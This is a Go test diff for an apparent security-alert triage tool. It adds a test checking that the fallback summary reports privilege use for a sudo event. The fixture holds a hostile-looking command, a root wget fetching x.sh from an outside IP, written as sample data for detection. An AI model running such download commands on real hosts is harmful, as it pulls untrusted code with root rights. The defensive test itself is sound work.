@@ -578,3 +578,23 @@ func BenchmarkFallback(b *testing.B) {
 	}
 	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "incidents/s")
 }
+
+func TestFallbackDecisiveFactNamesPrivilegeUse(t *testing.T) {
+	ev := event.Event{
+		"@timestamp": "2025-12-10T09:54:47.000Z", "event.dataset": "system.auth", "event.category": []any{"process"},
+		"event.action": "sudo", "event.outcome": "success", "user.name": "deploy", "host.name": "web-01",
+		"process.command_line": "/usr/bin/wget -q http://198.51.100.23/x.sh", "vigil.event_id": "ev-sudo",
+	}
+	at := time.Date(2025, 12, 10, 9, 54, 47, 0, time.UTC)
+	a := rules.Alert{Timestamp: at, Rule: rules.AlertRule{ID: "vigil.sudo.download", Name: "Download tool run as root through sudo"}}
+	a.Vigil.Alert = rules.AlertDetail{ID: "a1", Kind: "match", Severity: "high", RiskScore: 73,
+		Entity: rules.Entity{Field: "user.name", Value: "deploy"}, FirstSeen: at, LastSeen: at, EventCount: 1, Events: []event.Event{ev}}
+	inc, _ := NewGrouper(GrouperConfig{}).Add(a)
+	tr, err := NewFallback().Triage(context.Background(), inc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(tr.Summary, "show no login failure, compromise or privilege use") || !strings.Contains(tr.Summary, "used privileges on web-01") {
+		t.Fatalf("the decisive fact must name the privilege use it counted: %s", tr.Summary)
+	}
+}
